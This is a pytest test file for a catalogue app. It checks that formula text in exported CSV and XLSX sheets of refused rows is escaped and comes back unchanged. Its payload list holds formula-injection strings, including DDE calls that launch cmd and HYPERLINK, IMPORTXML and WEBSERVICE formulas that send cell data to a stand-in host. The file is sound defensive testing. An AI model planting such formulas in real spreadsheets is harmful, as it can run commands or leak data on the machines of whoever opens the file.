"""Sheets that leave the desk: nothing in them comes alive, and they come back as they went."""

import io

import pytest
from openpyxl import load_workbook

from catalogue.escaping import LIVE, escaped, unescaped
from catalogue.imports.problems import as_csv, as_workbook
from catalogue.imports.reading import read
from tests.sheets import HEADINGS, csv_of, kinds, make_places, planned

pytestmark = pytest.mark.usefixtures("in_english")
FORMULAS = [
    *["=1+1", "==1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"klik")'],
    *["+1+1", "++1", "+62 812 3456", "-1+1", "- butir satu", "--", "@SUM(1+1)", "@@x", "@budi"],
    *["\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1", "\u00a0=1+1", "'=1+1", "''=1+1", "'+62"],
    *["'@x", "' =1", "＝1+1", "＋1", "－1", "＠x", "=", "+", "-", "@", "'", "''", "'Aisyiyah"],
    *['=IMPORTXML("http://x.example","//a")', '=WEBSERVICE("http://x.example")'],
    *['=DDE("cmd";"/C calc";"x")', '="a"&"b"', "-2+3+cmd|' /C calc'!D2"],
]


def refused_rows(content_of):
    """What a sheet of refused rows, each with such a text, looks like when it is sent back."""
    make_places()
    rows = [[n, "🌱", "Lutra", text, text] for n, text in enumerate(FORMULAS, start=1)]
    taken = planned(
        csv_of(
            [*HEADINGS, "Catatan"],
            *[[escaped(c) if isinstance(c, str) else c for c in r] for r in rows],
        )
    )
    return content_of(taken)


def test_there_are_as_many_formula_texts_as_were_promised():
    assert len(set(FORMULAS)) >= 38


@pytest.mark.parametrize("text", FORMULAS)
def test_escaping_is_undone_exactly(text):
    assert unescaped(escaped(text)) == text
    assert escaped(text)[:1] == "'" or not LIVE.match(text)


@pytest.mark.django_db
def test_no_formula_in_a_csv_comes_alive_and_each_comes_back_as_it_was():
    content = refused_rows(as_csv)

    written = content.decode("utf-8-sig")
    sheet = read("perbaiki.csv", content)
    assert [line.cells[5] for line in sheet.lines[1:]] == FORMULAS
    cells = [line.cells[5] for line in _raw(written)]
    assert [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@")] == []


def _raw(text):
    import csv

    from catalogue.imports.sheet import Line

    records = list(csv.reader(io.StringIO(text, newline="")))
    return [Line(n, cells) for n, cells in enumerate(records, start=1)][1:]


@pytest.mark.django_db
def test_no_formula_in_a_workbook_comes_alive_and_each_comes_back_as_it_was():
    content = refused_rows(as_workbook)

    book = load_workbook(io.BytesIO(content))
    kinds_ = {cell.data_type for cells in book.active.iter_rows(min_row=2) for cell in cells}
    sheet = read("perbaiki.xlsx", content)
    assert kinds_ <= {"s", "n"}
    assert [line.cells[5] for line in sheet.lines[1:]] == FORMULAS
    assert all(line.formulas == [] for line in sheet.lines)


@pytest.mark.django_db
@pytest.mark.parametrize("content_of", [as_csv, as_workbook], ids=["CSV", "XLSX"])
def test_a_sheet_of_problems_is_mended_where_it_stands_and_sent_in_again(content_of):
    make_places()
    taken = planned(csv_of(HEADINGS, [1, "Baru", "Lutra", "Dinkes"], [2, "🌱", "Lutra", "Dinkes"]))

    content = content_of(taken)
    lines = read("perbaiki", content).lines
    assert lines[1].cells == [
        "3",
        "name of the innovation: The name has no letter and no digit.",
        "2",
        "🌱",
        "Lutra",
        "Dinkes",
    ]

    lines[1].put(3, "Kelas Tanaman")
    mended = planned(csv_of(*[line.cells for line in lines]), name="lagi.csv")
    assert kinds(mended) == {2: "new"}
